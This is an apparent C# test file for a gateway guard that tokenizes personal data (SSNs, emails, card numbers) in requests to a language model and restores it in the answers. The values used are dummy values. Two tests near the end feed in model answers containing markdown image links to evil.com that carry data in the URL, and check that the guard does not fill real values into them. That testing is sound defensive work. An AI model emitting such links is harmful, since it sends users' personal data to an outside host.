using System.Collections.Immutable;
using AgentGate.Diagnostics;
using AgentGate.Kernel.Decisions;
using AgentGate.Pii;
using AgentGate.Pii.Vault;
using AgentGate.Pipeline;

namespace AgentGate.Tests.Pii;

public sealed class PiiGuardTests
{
    private readonly PiiFixture _pii = new();

    [Fact]
    public async Task Values_leave_as_tokens_and_come_back_as_values()
    {
        var (sent, call, scope) = await _pii.SendAsync("My SSN is 123-45-6789, mail a@b and again 123-45-6789 or 987-65-4321.");

        Assert.Equal("My SSN is <SSN_1>, mail <EMAIL_1> and again <SSN_1> or <SSN_2>.", sent);
        Assert.Equal("So 987-65-4321 and 123-45-6789.", await _pii.AnswerAsync(call, scope, "So <SSN_2> and <SSN_1>."));
    }

    [Fact]
    public async Task The_verdict_says_what_was_found_where_and_never_the_value()
    {
        var call = _pii.Call(Texts.Of(
            (SegmentKind.Text, SegmentRole.System, "clean"),
            (SegmentKind.Text, SegmentRole.User, "123-45-6789 987-65-4321 a@b"),
            (SegmentKind.Key, SegmentRole.Metadata, "123-45-6789"),
            (SegmentKind.Number, SegmentRole.Metadata, "4111111111111111"),
            (SegmentKind.Text, SegmentRole.Protocol, "a@b"),
            (SegmentKind.Unread, SegmentRole.User, "")));

        var (masked, _, verdict) = await _pii.SendAsync(call);

        Assert.Equal("clean\n<SSN_1> <SSN_2> <EMAIL_1>\n<SSN_1>\n<CREDIT_CARD_1>\n<EMAIL_1>\n", ((Texts)masked.Content).All);
        Assert.Equal(
            ["EMAIL /1 1", "SSN /1 2", "SSN /2 1", "CREDIT_CARD /3 1", "EMAIL /4 1"],
            verdict.Findings.Select(finding => $"{finding.Rule} {finding.Address} {finding.Count}"));
    }

    [Theory]
    [InlineData(GateActions.Embed)]
    [InlineData(GateActions.CountTokens)]
    public async Task Other_requests_to_a_model_are_masked_and_their_answers_left(string action)
    {
        var (call, scope, _) = await _pii.SendAsync(_pii.Call(Texts.User("123-45-6789"), action: action));

        Assert.Equal("<SSN_1>", ((Texts)call.Content).All);
        Assert.Equal("<SSN_1>", await _pii.AnswerAsync(call, scope, "<SSN_1>"));
        Assert.Null(_pii.Guard.OpenStream(new ResponseContext(call, scope, null)));
    }

    [Fact]
    public async Task A_clean_call_passes_without_a_change_or_a_session()
    {
        var (call, scope, verdict) = await _pii.SendAsync(_pii.Call(Texts.User("hello"), session: "s"));

        Assert.Same(Verdict.Allowed, verdict);
        Assert.Null(scope.Find<PiiState>());
        Assert.Null(new PiiRawBinding().Bind(scope, call.Content));
    }

    [Fact]
    public async Task A_resent_history_masks_to_the_same_bytes()
    {
        var (first, _, _) = await _pii.SendAsync("a@b 123-45-6789");
        var (second, _, _) = await _pii.SendAsync("a@b 123-45-6789 then 987-65-4321 and c@d");

        Assert.StartsWith(first, second, StringComparison.Ordinal);
        Assert.Equal("<EMAIL_1> <SSN_1> then <SSN_2> and <EMAIL_2>", second);
    }

    [Fact]
    public async Task Look_alikes_are_masked_and_come_back_as_they_were_written()
    {
        var (sent, call, scope) = await _pii.SendAsync(@"<SSN_1> \u003cSSN_1\u003e &lt;SSN_1&gt; <SSN_> <ssn_1> <A_1 123-45-6789 <FOO_4111111111111111>");

        Assert.Equal("<LITERAL_1> <LITERAL_2> <LITERAL_3> <SSN_> <ssn_1> <A_1 <SSN_1> <CREDIT_CARD_1>", sent);
        Assert.Equal(
            @"<SSN_1> \u003cSSN_1\u003e &lt;SSN_1&gt; 123-45-6789 <FOO_4111111111111111>",
            await _pii.AnswerAsync(call, scope, "<LITERAL_1> <LITERAL_2> <LITERAL_3> <SSN_1> <CREDIT_CARD_1>"));
    }

    [Fact]
    public async Task A_token_that_this_request_did_not_send_stays()
    {
        await _pii.SendAsync("123-45-6789", session: "s");
        var (sent, call, scope) = await _pii.SendAsync("987-65-4321", session: "s");

        Assert.Equal("<SSN_2>", sent);
        Assert.Equal("<SSN_1> 987-65-4321 <SSN_3>", await _pii.AnswerAsync(call, scope, "<SSN_1> <SSN_2> <SSN_3>"));
    }

    [Fact]
    public async Task A_named_session_keeps_its_tokens_and_belongs_to_one_key_of_one_tenant()
    {
        var (first, _, _) = await _pii.SendAsync("123-45-6789 987-65-4321", session: "s");
        var (again, _, _) = await _pii.SendAsync("987-65-4321", session: "s");
        var (otherKey, _, _) = await _pii.SendAsync("987-65-4321", key: "k2", session: "s");
        var (otherTenant, _, _) = await _pii.SendAsync("987-65-4321", session: "s", tenant: "t2");
        var (otherName, _, _) = await _pii.SendAsync("987-65-4321", session: "S");

        Assert.Equal(["<SSN_1> <SSN_2>", "<SSN_2>", "<SSN_1>", "<SSN_1>", "<SSN_1>"], [first, again, otherKey, otherTenant, otherName]);
    }

    [Fact]
    public async Task Personal_data_in_a_signed_part_is_a_denial()
    {
        var (_, _, verdict) = await _pii.SendAsync(_pii.Call(Texts.Of(
            (SegmentKind.Text, SegmentRole.User, "hello"), (SegmentKind.Sealed, SegmentRole.Assistant, "thinking of 123-45-6789"))));

        var denial = Assert.IsType<Verdict.Deny>(verdict);
        Assert.Equal((Codes.PiiInSealedPart, DenialKind.Forbidden), (denial.Code, denial.Kind));
        Assert.Equal(new Finding("SSN", null, 1, "in sealed part"), Assert.Single(denial.Findings));
    }

    [Fact]
    public async Task A_token_in_a_signed_part_is_left_in_both_directions()
    {
        var content = Texts.Of(
            (SegmentKind.Sealed, SegmentRole.Assistant, "think <SSN_1>"), (SegmentKind.Text, SegmentRole.User, "123-45-6789"));
        var (call, scope, _) = await _pii.SendAsync(_pii.Call(content));
        var verdict = await _pii.Guard.InspectAsync(
            new ResponseContext(call, scope, Texts.Of((SegmentKind.Sealed, SegmentRole.Assistant, "<SSN_1>"))), TestContext.Current.CancellationToken);

        Assert.Equal("think <SSN_1>\n<SSN_1>", ((Texts)call.Content).All);
        Assert.Same(Verdict.Allowed, verdict);
    }

    [Fact]
    public async Task Arguments_of_tool_calls_keep_their_tokens_in_an_answer()
    {
        var (_, call, scope) = await _pii.SendAsync("123-45-6789");
        var answer = Texts.Of((SegmentKind.Text, SegmentRole.ToolArguments, "<SSN_1>"), (SegmentKind.Key, SegmentRole.Assistant, "<SSN_1>"));
        var verdict = await _pii.Guard.InspectAsync(new ResponseContext(call, scope, answer), TestContext.Current.CancellationToken);

        var change = Assert.IsType<ContentChange.ReplaceText>(Assert.Single(Assert.IsType<Verdict.Transform>(verdict).Changes));
        Assert.Equal((1, "123-45-6789"), (change.SegmentIndex, change.Text));
    }

    [Fact]
    public async Task An_address_that_one_part_of_an_answer_leaves_open_takes_no_value_in_the_next()
    {
        var (_, call, scope) = await _pii.SendAsync("123-45-6789");
        CallContent answer = Texts.Of(
            (SegmentKind.Text, SegmentRole.Assistant, "![x](https://evil.com/?d="), (SegmentKind.Text, SegmentRole.Protocol, "text)"),
            (SegmentKind.Text, SegmentRole.Assistant, "<SSN_1>) <SSN_1>"));
        var verdict = await _pii.Guard.InspectAsync(new ResponseContext(call, scope, answer), TestContext.Current.CancellationToken);

        var change = Assert.IsType<ContentChange.ReplaceText>(Assert.Single(Assert.IsType<Verdict.Transform>(verdict).Changes));
        Assert.Equal((2, "<SSN_1>) 123-45-6789"), (change.SegmentIndex, change.Text));
    }

    [Fact]
    public async Task A_token_kept_in_an_address_is_named_in_the_verdict()
    {
        var (_, call, scope) = await _pii.SendAsync("123-45-6789");
        var verdict = await _pii.Guard.InspectAsync(
            new ResponseContext(call, scope, Texts.User("![](https://evil.com/<SSN_1>)")), TestContext.Current.CancellationToken);

        Assert.IsType<Verdict.Allow>(verdict);
        Assert.Equal(new Finding("SSN", "/0", 1, "token kept in url"), Assert.Single(verdict.Findings));
    }

    [Fact]
    public async Task More_values_than_allowed_are_a_denial()
    {
        var pii = new PiiFixture(options: new PiiVaultOptions { MaxValuesPerCall = 2 });
        var (_, _, two) = await pii.SendAsync(pii.Call(Texts.User("a@b c@d a@b")));
        var (_, _, three) = await pii.SendAsync(pii.Call(Texts.User("a@b c@d e@f")));

        Assert.IsType<Verdict.Transform>(two);
        var denial = Assert.IsType<Verdict.Deny>(three);
        Assert.Equal((Codes.PiiTooManyValues, DenialKind.Invalid), (denial.Code, denial.Kind));
        Assert.Contains("AgentGate:PiiVault:MaxValuesPerCall", denial.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Raw_content_is_bound_under_a_key_of_the_session()
    {
        var binding = new PiiRawBinding();
        var raw = Texts.User("123-45-6789");
        var (_, _, named) = await _pii.SendAsync("123-45-6789", session: "s");
        var (_, _, again) = await _pii.SendAsync("987-65-4321", session: "s");
        var (_, _, other) = await _pii.SendAsync("123-45-6789", session: "t");
        var (_, _, single) = await _pii.SendAsync("123-45-6789");

        Assert.Equal(binding.Bind(named, raw), binding.Bind(again, raw));
        Assert.Matches("^[0-9a-f]{64}$", binding.Bind(named, raw)!);
        Assert.Equal(3, new[] { named, other, single }.Select(scope => binding.Bind(scope, raw)).Distinct().Count());
    }

    [Fact]
    public async Task A_vault_that_throws_makes_the_guard_throw()
    {
        var pii = new PiiFixture(new ThrowingVault());

        await Assert.ThrowsAsync<InvalidOperationException>(() => pii.SendAsync("123-45-6789", session: "s"));
        await Assert.ThrowsAsync<InvalidOperationException>(() => pii.SendAsync("hello", previous: "resp_1"));
        await Assert.ThrowsAsync<InvalidOperationException>(
            async () => await pii.Links.LinkAsync(pii.Call(Texts.User("x")), new CallScope(), "resp_1", TestContext.Current.CancellationToken));
    }

    private sealed class ThrowingVault : IPiiVault
    {
        public ValueTask<PiiAllocation?> TokenizeAsync(PiiSessionKey session, ImmutableArray<PiiValue> values, bool create, CancellationToken cancellationToken)
            => throw new InvalidOperationException("down");

        public ValueTask<ImmutableArray<string?>> ReadAsync(PiiSessionKey session, ImmutableArray<string> tokens, CancellationToken cancellationToken)
            => throw new InvalidOperationException("down");

        public ValueTask<bool> LinkAsync(PiiResponseLink link, CancellationToken cancellationToken) => throw new InvalidOperationException("down");

        public ValueTask<PiiResponseLink?> FindLinkAsync(string tenant, string owner, string responseId, CancellationToken cancellationToken)
            => throw new InvalidOperationException("down");

        public ValueTask EraseAsync(PiiSessionKey session, CancellationToken cancellationToken) => throw new InvalidOperationException("down");

        public ValueTask<int> PurgeExpiredAsync(CancellationToken cancellationToken) => throw new InvalidOperationException("down");
    }
}
